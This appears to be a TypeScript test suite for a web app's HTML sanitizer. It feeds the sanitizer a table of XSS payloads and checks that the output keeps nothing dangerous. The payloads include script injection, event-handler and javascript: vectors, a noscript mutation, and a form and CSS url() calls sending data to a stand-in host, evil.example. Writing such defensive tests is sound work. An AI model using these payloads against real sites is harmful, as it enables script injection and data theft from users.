import { render, waitFor } from '@testing-library/react';
import { appStore } from '../state/store';
import { configAtom, defaultConfig } from '../state/config';
import { SafeHtml } from './safe-html';
import { sanitizeHtml } from './sanitize-html';

const PAYLOADS: Record<string, string> = {
  script: '<p>ok</p><script>alert(1)</script>',
  'img onerror': '<img src="/static/a.png" onerror="alert(1)"><img src=x onerror=alert(2)>',
  'javascript: link': '<a href="javascript:alert(1)">tap</a><a href=" JaVaScRiPt:alert(1)">tap</a>',
  iframe: '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'form action': '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  base: '<base href="https://evil.example/"><a href="/pages/user/user">me</a>',
  'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  'svg onload': '<svg onload="alert(1)"><circle r="1"/></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  'object embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
  'style exfiltration':
    '<style>body{background:url(https://evil.example/t)}</style><p style="background:url(https://evil.example/p)">x</p>',
  'other host image': '<img src="https://evil.example/track.png"><img src="//evil.example/t.png">',
};

/** Everything in the sanitized markup that could run, navigate, submit or reach another host. */
function dangers(html: string): string[] {
  const box = new DOMParser().parseFromString(html, 'text/html').body;
  const found: string[] = [];
  for (const el of Array.from(box.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase();
    if (
      ['script', 'iframe', 'form', 'meta', 'base', 'object', 'embed', 'style', 'svg', 'math', 'noscript'].includes(tag)
    )
      found.push(`<${tag}>`);
    for (const attr of Array.from(el.attributes)) {
      const value = attr.value.trim().toLowerCase();
      if (attr.name.startsWith('on')) found.push(`${tag}[${attr.name}]`);
      if (attr.name === 'style') found.push(`${tag}[style]`);
      if (/^(javascript|data|vbscript):/.test(value.replace(/\s/g, ''))) found.push(`${tag}[${attr.name}=${value}]`);
      if (['src', 'href', 'action', 'srcdoc'].includes(attr.name) && /^(https?:)?\/\//.test(value))
        found.push(`${tag}[${attr.name}=${value}]`);
    }
  }
  return found;
}

afterEach(() => appStore.set(configAtom, defaultConfig));

describe('the one HTML sanitizer', () => {
  it.each(Object.entries(PAYLOADS))('leaves nothing dangerous of %s', (_name, payload) => {
    expect(dangers(sanitizeHtml(payload))).toEqual([]);
  });

  it('keeps the text and the site’s own pictures and links', () => {
    const clean = sanitizeHtml(
      '<h2>Terms</h2><p><b>Rent</b> is due monthly.</p><img src="/static/goods/x.png" alt="front"><a href="/h5/">home</a>',
    );
    expect(clean).toBe(
      '<h2>Terms</h2><p><b>Rent</b> is due monthly.</p><img src="/static/goods/x.png" alt="front"><a href="/h5/">home</a>',
    );
  });

  it('the noscript mutation leaves the text harmless, not an image with a handler', () => {
    const clean = sanitizeHtml(PAYLOADS['noscript mutation']!);
    expect(clean).not.toMatch(/<img/i);
  });

  it('allows pictures from the asset base the platform names, and only from there', () => {
    appStore.set(configAtom, { ...defaultConfig, cos: 'https://assets.rental.example/img' });
    expect(sanitizeHtml('<img src="https://assets.rental.example/img/a.png">')).toContain('assets.rental.example');
    expect(sanitizeHtml('<img src="https://assets.rental.example.evil.example/a.png">')).toBe('');
  });

  it('SafeHtml renders sanitized markup whatever it is given', async () => {
    const { container } = render(<SafeHtml className="doc" html={`<p>kept</p>${Object.values(PAYLOADS).join('')}`} />);
    await waitFor(() => expect(container.querySelector('.doc')?.textContent).toContain('kept'));
    expect(dangers(container.innerHTML)).toEqual([]);
  });
});
